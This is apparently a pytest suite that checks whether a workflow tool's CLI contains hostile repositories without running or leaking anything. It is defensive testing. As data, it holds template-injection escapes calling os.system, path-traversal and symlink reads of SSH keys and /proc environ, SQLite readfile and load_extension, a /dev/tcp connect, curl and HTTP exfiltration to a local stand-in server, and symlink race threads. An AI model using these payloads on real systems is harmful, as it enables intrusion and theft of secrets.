# ruff: noqa: E501 - a table
"""Hostile workflow files through the real command line: nothing runs, nothing outside is read or changed or sent."""

import json
import os
import shutil
import socket
import sqlite3
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import msgspec
import pytest

from cli.command import calibrant

CANARY = "CANARY-7f3a91"
HOSTILE_SETTINGS = """\
execute = "unsandboxed"
openPaths = ["/"]
run = "onSave"
trust = true
"""

# Each is one step, by its keys after `id`. OUT: a folder outside; NET: a server that must never hear anything.
WITHOUT_TRUST = {
    # running something
    "run": 'run: "touch OUT/made; cat OUT/canary.txt; curl http://NET/"',
    "run in a folder outside": 'run: cat canary.txt\n    cwd: OUT',
    "run by another shell": 'run: touch OUT/made\n    shell: python3',
    "shell.run": 'uses: shell.run\n    with: {command: "touch OUT/made"}',
    "shell.run, told by an expression": "uses: shell.run\n    with: {command: \"{{ 'touch ' ~ 'OUT/made' }}\"}",
    "python.call, a system function": "uses: python.call\n    with: {function: 'os:system', args: {command: touch OUT/made}}",
    "python.call, the repository's own": "uses: python.call\n    with: {function: 'evil:go'}",
    "a module beside the workflow": "uses: data.map\n    with: {items: [1], to: '{{ item }}'}",
    "an expression that reaches Python": (
        "uses: data.map\n    with: {items: [1], to: "
        "\"{{ ''.__class__.__mro__[1].__subclasses__()[0] }}{{ cycler.__init__.__globals__.os.popen('touch OUT/made') }}\"}"
    ),
    "an expression by attr": "uses: data.map\n    with: {items: [1], to: \"{{ [] | attr('__class__') | attr('__base__') }}\"}",
    "a filter's expression": "uses: data.filter\n    with: {items: [1], where: \"lipsum.__globals__['os'].system('touch OUT/made')\"}",
    "a condition": "uses: file.list\n    if: \"joiner.__init__.__globals__.os.system('touch OUT/made')\"\n    with: {path: .}",
    # reading
    "read by ..": "uses: file.read\n    with: {path: ../outside/canary.txt}",
    "read by .. after a folder": "uses: file.read\n    with: {path: sub/../../outside/canary.txt}",
    "read by .. through a link": "uses: file.read\n    with: {path: out/../canary.txt}",
    "read by an absolute path": "uses: file.read\n    with: {path: OUT/canary.txt}",
    "read by a link": "uses: file.read\n    with: {path: link.txt}",
    "read by a link in a linked folder": "uses: file.read\n    with: {path: chain/canary.txt}",
    "read by a linked folder": "uses: file.read\n    with: {path: out/canary.txt}",
    "read by /proc": "uses: file.read\n    with: {path: /proc/self/rootOUT/canary.txt}",
    "read by /proc, by a link": "uses: file.read\n    with: {path: proc/self/environ}",
    "read by a home": "uses: file.read\n    with: {path: ~/.ssh/id_rsa}",
    "read by a URL": "uses: file.read\n    with: {path: 'file://OUT/canary.txt'}",
    "read what an expression names": "uses: file.read\n    with: {path: \"{{ ['..', 'outside', 'canary.txt'] | join('/') }}\"}",
    "read a path with a NUL": 'uses: file.read\n    with: {path: "../outside/canary.txt\\0.txt"}',
    "list outside": "uses: file.list\n    with: {path: ../outside}",
    "list by a glob": "uses: file.list\n    with: {path: ., glob: '../outside/*'}",
    "list by a linked folder": "uses: file.list\n    with: {path: out}",
    "list all below": "uses: file.list\n    with: {path: ., glob: '**'}",
    "a sheet outside": "uses: sheet.read\n    with: {file: ../outside/canary.csv}",
    "a sheet by a link": "uses: sheet.read\n    with: {file: out/canary.csv}",
    "mail outside": "uses: mail.read\n    with: {mailbox: ../outside/mail}",
    "mail by a link in a Maildir": "uses: mail.read\n    with: {mailbox: maildir}",
    "a database outside": "uses: sql.query\n    with: {database: 'sqlite:///../outside/canary.db', query: select * from t}",
    "a database by an absolute path": "uses: sql.query\n    with: {database: 'sqlite:///OUT/canary.db', query: select * from t}",
    "a database by a link": "uses: sql.query\n    with: {database: 'sqlite:///out/canary.db', query: select * from t}",
    "a database with parameters": (
        "uses: sql.query\n    with: {database: 'sqlite:///own.db?x=/../../outside/canary.db', query: select * from t}"
    ),
    "attach a database": (
        "uses: sql.query\n    with: {database: 'sqlite:///own.db', query: \"attach 'OUT/canary.db' as o; select * from o.t\"}"
    ),
    "attach a database, alone": "uses: sql.query\n    with: {database: 'sqlite:///own.db', query: \"attach 'OUT/canary.db' as o\"}",
    "SQLite's own file function": "uses: sql.query\n    with: {database: 'sqlite:///own.db', query: \"select readfile('OUT/canary.txt')\"}",
    "SQLite loads a library": "uses: sql.query\n    with: {database: 'sqlite:///own.db', query: \"select load_extension('OUT/evil')\"}",
    # writing
    "write by ..": "uses: file.write\n    with: {path: ../outside/canary.txt, content: gone}",
    "write by an absolute path": "uses: file.write\n    with: {path: OUT/made, content: gone}",
    "write by a link": "uses: file.write\n    with: {path: link.txt, content: gone}",
    "write by a linked folder": "uses: file.write\n    with: {path: out/made, content: gone}",
    "append by a link": "uses: file.write\n    with: {path: link.txt, content: gone, append: true}",
    "write over the settings": "uses: file.write\n    with: {path: calibrant.toml, content: gone}",
    "write into git's folder": "uses: file.write\n    with: {path: .git/hooks/post-checkout, content: gone}",
    "a sheet is appended to outside": "uses: sheet.append\n    with: {file: ../outside/canary.csv, rows: [{a: gone}]}",
    "a sheet is appended to by a link": "uses: sheet.append\n    with: {file: out/canary.csv, rows: [{a: gone}]}",
    "a sheet is updated outside": "uses: sheet.update\n    with: {file: ../outside/canary.csv, range: A1, values: [[gone]]}",
    "a database is changed outside": (
        "uses: sql.execute\n    with: {database: 'sqlite:///OUT/canary.db', statement: delete from t}"
    ),
    "a database is changed by a link": "uses: sql.execute\n    with: {database: 'sqlite:///out/canary.db', statement: drop table t}",
    "a database is attached and changed": (
        "uses: sql.execute\n    with: {database: 'sqlite:///own.db', statement: \"attach 'OUT/made.db' as o\"}"
    ),
    "a database is written out": "uses: sql.execute\n    with: {database: 'sqlite:///own.db', statement: \"vacuum into 'OUT/made.db'\"}",
    "a query that writes": "uses: sql.query\n    with: {database: 'sqlite:///own.db', query: \"vacuum into 'OUT/made.db'\"}",
    # sending
    "ask a server": "uses: http.request\n    with: {url: 'http://NET/'}",
    "ask by HEAD": "uses: http.request\n    with: {url: 'http://NET/', method: HEAD}",
    "send to a server": "uses: http.request\n    with: {url: 'http://NET/', method: POST, json: {a: 1}}",
    "ask by another name": "uses: http.request\n    with: {url: 'http://localhost:PORT/'}",
    "ask by an expression": "uses: http.request\n    with: {url: \"http://{{ 'NET' }}/{{ env.SECRET_WORD }}\"}",
    "ask for a file": "uses: http.request\n    with: {url: 'file://OUT/canary.txt'}",
    "mail is sent": "uses: mail.send\n    with: {server: 'NET', to: a@b.test, from: c@d.test, subject: x, text: x}",
    "mail is sent with a file": (
        "uses: mail.send\n    with: {server: 'NET', to: a@b.test, from: c@d.test, subject: x, text: x, "
        "attachments: [../outside/canary.txt]}"
    ),
    "a database of another kind": "uses: sql.query\n    with: {database: 'postgresql://NET/x', query: select 1}",
    "for each, with retries": (
        "for_each: [1, 2, 3]\n    retry: {attempts: 3, delay: 0}\n    uses: http.request\n    with: {url: 'http://NET/{{ item }}'}"
    ),
}  # fmt: skip


class World(msgspec.Struct, frozen=True):
    """A hostile repository, what lies around it, and a server that counts who connects."""

    repository: Path
    outside: Path
    home: Path
    port: int
    heard: list[str]

    def fill(self, text: str) -> str:
        text = text.replace("OUT", str(self.outside)).replace("NET", f"127.0.0.1:{self.port}")
        return text.replace("PORT", str(self.port))

    def around(self) -> dict[str, bytes]:
        """Return everything outside the repository, by name."""
        places = (*self.outside.rglob("*"), *self.home.rglob("*"))
        return {str(path): path.read_bytes() for path in sorted(places) if path.is_file()}

    def inside(self) -> dict[str, bytes]:
        """Return everything in the repository but the workflows."""
        places = sorted(path for path in self.repository.rglob("*") if not path.is_symlink())
        return {str(path): path.read_bytes() for path in places if path.is_file() and ".workflow." not in path.name}

    def calibrate(self, *words: str) -> tuple[int, list[dict[str, object]], str]:
        """Run `calibrant calibrate . --format json`; return its status, its list, and all that anyone could read of it."""
        state = self.repository.parent / "state"
        environ = {
            "HOME": str(self.home),
            "SECRET_WORD": CANARY,
            "PYTHONSAFEPATH": "1",  # as with the installed command, which imports nothing from the current folder
            "PATH": f"{self.repository / 'bin'}:{os.environ['PATH']}",
        }
        done = calibrant(
            *("calibrate", ".", "--format", "json", *words),
            folder=self.repository,
            state=state,
            env=environ,
            seconds=120,
        )
        kept = b"".join(path.read_bytes() for path in state.rglob("*") if path.is_file())
        return done.status, done.json, done.out + done.err + kept.decode("utf-8", "replace")


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    repository, outside, home = (tmp_path / name for name in ("repository", "outside", "home"))
    for folder in (
        repository / "sub",
        repository / "bin",
        repository / ".git" / "hooks",
        outside / "inner",
        home / ".ssh",
    ):
        folder.mkdir(parents=True)
    (outside / "canary.txt").write_text(CANARY)
    (outside / "canary.csv").write_text(f"a,b\n{CANARY},1\n")
    (outside / "mail").write_text(f"From a@b Thu Jan  1 00:00:00 2026\nSubject: {CANARY}\n\n{CANARY}\n")
    (home / ".ssh" / "id_rsa").write_text(CANARY)
    for database, content in ((outside / "canary.db", CANARY), (repository / "own.db", "own")):
        with sqlite3.connect(database) as connection:
            connection.execute("create table t (a text)")
            connection.execute("insert into t values (?)", (content,))
        connection.close()
    (repository / "calibrant.toml").write_text(HOSTILE_SETTINGS)
    (repository / "evil.py").write_text(f"def go(): open({str(outside / 'made')!r}, 'w')\n")
    for name in ("json", "sqlite3", "calibrant", "sitecustomize", "httpx"):
        (repository / f"{name}.py").write_text(f"open({str(outside / 'made')!r}, 'w')\n")
    for name in ("bwrap", "python3", "sh", "git", "curl"):
        (repository / "bin" / name).write_text(f"#!/bin/sh\ntouch {outside / 'made'}\n")
        (repository / "bin" / name).chmod(0o755)
    (repository / "link.txt").symlink_to("../outside/canary.txt")
    (repository / "out").symlink_to(outside)
    (repository / "chain").symlink_to("out")
    (repository / "proc").symlink_to("/proc")
    (repository / "linked.workflow.yaml").symlink_to("../outside/canary.txt")
    for name in ("cur", "new", "tmp"):
        (repository / "maildir" / name).mkdir(parents=True)
    (repository / "maildir" / "cur" / "1:2,S").symlink_to("../../../outside/mail")
    listening = socket.create_server(("127.0.0.1", 0))
    heard: list[str] = []
    thread = threading.Thread(target=_hear, args=(listening, heard), daemon=True)
    thread.start()
    yield World(repository, outside, home, listening.getsockname()[1], heard)
    listening.shutdown(socket.SHUT_RDWR)
    listening.close()
    thread.join(5)


def _hear(listening: socket.socket, heard: list[str]) -> None:
    while True:
        try:
            connection, who = listening.accept()
        except OSError:
            return
        heard.append(str(who))
        connection.close()


def test_nothing_comes_of_it_without_trust(world: World) -> None:
    """All in one run of a whole folder, as after cloning; the files that nothing can be wrong with are named by the table."""
    names = {}
    for number, (name, step) in enumerate(WITHOUT_TRUST.items()):
        file = f"h{number:02}.workflow.yaml"
        names[file] = name
        (world.repository / file).write_text(f"steps:\n  - id: one\n    {world.fill(step)}\n")
    around, inside = world.around(), world.inside()
    status, results, readable = world.calibrate()
    assert status == 1
    ran = {names[str(one["path"])]: one for one in results}
    assert set(ran) == set(WITHOUT_TRUST), "each was tried"
    assert all(one["status"] == "completed" for one in results)
    assert CANARY not in readable
    assert CANARY[:10] not in readable
    assert world.heard == []
    assert world.around() == around
    assert world.inside() == inside
    harmless = {
        *("a module beside the workflow", "list by a glob", "list all below", "write over the settings"),
        *("write into git's folder", "mail by a link in a Maildir", "a database with parameters"),
    }
    calm = {name for name, one in ran.items() if name not in harmless and _all_done(one)}
    assert not calm, f"done as if nothing were wrong: {calm}"
    listed = json.dumps([ran[name] for name in ("list by a glob", "list all below")])
    assert "canary" not in listed.replace("../outside", "")


def _all_done(one: object) -> bool:
    assert isinstance(one, dict)
    return all(step["status"] == "completed" for step in one["steps"])


def test_the_trap_works(world: World) -> None:
    """What is trusted is heard and read: else the table above would prove nothing."""
    step = world.fill("uses: http.request\n    with: {url: 'http://NET/'}")
    (world.repository / "a.workflow.yaml").write_text(f"steps:\n  - id: one\n    {step}\n")
    read = "steps:\n  - id: one\n    uses: file.read\n    with: {path: seen.txt}\n"
    (world.repository / "b.workflow.yaml").write_text(read)
    (world.repository / "seen.txt").write_text(CANARY)
    _, _, readable = world.calibrate("--trust")
    assert world.heard
    assert CANARY in readable


# In a workspace that is trusted commands run in the sandbox, in the private copy, without network; writes are rehearsed.
WITH_TRUST = {
    "touch outside": "run: touch OUT/made && echo CAME-THROUGH",
    "read outside": "run: cat OUT/canary.txt && echo CAME-THROUGH",
    "read the home": "run: cat ~/.ssh/id_rsa HOME/.ssh/id_rsa && echo CAME-THROUGH",
    "read by a link": "run: cat link.txt out/canary.txt && echo CAME-THROUGH",
    "read the environment": 'run: test -n "$SECRET_WORD" && echo CAME-THROUGH',
    "read another process": "run: cat /proc/[0-9]*/environ | tr a-z a-z",
    "connect": "run: /usr/bin/env bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT' && echo CAME-THROUGH",
    "post": "uses: http.request\n    with: {url: 'http://NET/', method: POST, json: {a: 1}}",
    "send mail": "uses: mail.send\n    with: {server: 'NET', to: a@b.test, from: c@d.test, subject: x, text: x}",
    "plant a link and read": (
        "run: ln -s OUT planted\n  - id: two\n    needs: one\n    uses: file.read\n    with: {path: planted/canary.txt}"
    ),
    "plant a link and write": (
        "run: ln -s OUT planted\n  - id: two\n    needs: one\n    uses: file.write\n"
        "    with: {path: planted/made, content: x}"
    ),
    "plant a link and a sheet": (
        "run: ln -s OUT/canary.csv planted.csv\n  - id: two\n    needs: one\n    uses: sheet.append\n"
        "    with: {file: planted.csv, rows: [{a: gone}]}"
    ),
    "plant a link and a database": (
        "run: ln -s OUT/canary.db planted.db\n  - id: two\n    needs: one\n    uses: sql.execute\n"
        "    with: {database: 'sqlite:///planted.db', statement: delete from t}"
    ),
    "change the workspace": "run: rm -f calibrant.toml; echo x > own.db; echo x > .git/hooks/post-checkout",
}


@pytest.mark.skipif(not shutil.which("bwrap"), reason="!!! bubblewrap is not installed: nothing is run without it")
def test_little_comes_of_it_with_trust(world: World) -> None:
    names = {}
    for number, (name, step) in enumerate(WITH_TRUST.items()):
        file = f"t{number:02}.workflow.yaml"
        names[file] = name
        filled = world.fill(step).replace("HOME", str(world.home))
        (world.repository / file).write_text(f"steps:\n  - id: one\n    {filled}\n")
    (world.repository / "bin" / "bwrap").unlink()
    for name in ("python3", "sh", "git", "curl"):  # what a trusted workspace puts first on PATH is its own affair
        (world.repository / "bin" / name).unlink()
    state = world.repository.parent / "state"
    assert calibrant("trust", ".", folder=world.repository, state=state, env={"PYTHONSAFEPATH": "1"}).status == 0
    around, inside = world.around(), world.inside()
    _, results, readable = world.calibrate()
    assert {names[str(one["path"])] for one in results} == set(WITH_TRUST)
    assert CANARY not in readable
    assert readable.count("CAME-THROUGH") == readable.count("echo CAME-THROUGH")
    assert world.heard == []
    assert world.around() == around
    assert world.inside() == inside


def _swap_links(repository: Path, outside: Path, over: threading.Event) -> None:
    """Keep turning a link between a folder of the workspace and one outside."""
    number = 0
    while not over.is_set():
        new = repository / "swap.new"
        new.symlink_to("sub" if number % 2 else outside)
        new.replace(repository / "swap")
        number += 1


def _swap_folder_and_link(repository: Path, outside: Path, over: threading.Event) -> None:
    """Keep putting a link to the folder outside in the place of a real folder."""
    swap, away, link = (repository / name for name in ("swap", "away", "link"))
    (repository / "sub").rename(swap)
    link.symlink_to(outside)
    with suppress(OSError):  # a live step made the folder anew while it was away
        while not over.is_set():
            swap.rename(away)
            link.rename(swap)
            swap.rename(link)
            away.rename(swap)


@pytest.mark.parametrize("swapping", [_swap_links, _swap_folder_and_link])
@pytest.mark.parametrize("words", [(), ("--live",)], ids=["rehearsed", "live"])
def test_what_is_swapped_while_it_is_used(
    world: World, swapping: Callable[[Path, Path, threading.Event], None], words: tuple[str, ...]
) -> None:
    """Something else works on the same folders; what was judged to be inside must be what is read and written."""
    (world.repository / "sub" / "canary.txt").write_text("harmless")
    steps = "".join(f"  - id: r{at}\n    uses: file.read\n    with: {{path: swap/canary.txt}}\n" for at in range(400))
    steps += "".join(
        f"  - id: w{at}\n    uses: file.write\n    with: {{path: swap/n{at}, content: x}}\n" for at in range(200)
    )
    (world.repository / "a.workflow.yaml").write_text(f"steps:\n{steps}")
    over = threading.Event()
    around = world.around()
    thread = threading.Thread(target=swapping, args=(world.repository, world.outside, over))
    thread.start()
    try:
        _, results, readable = world.calibrate(*words)
    finally:
        over.set()
        thread.join()
    assert results[0]["status"] == "completed"
    assert CANARY not in readable
    assert world.around() == around
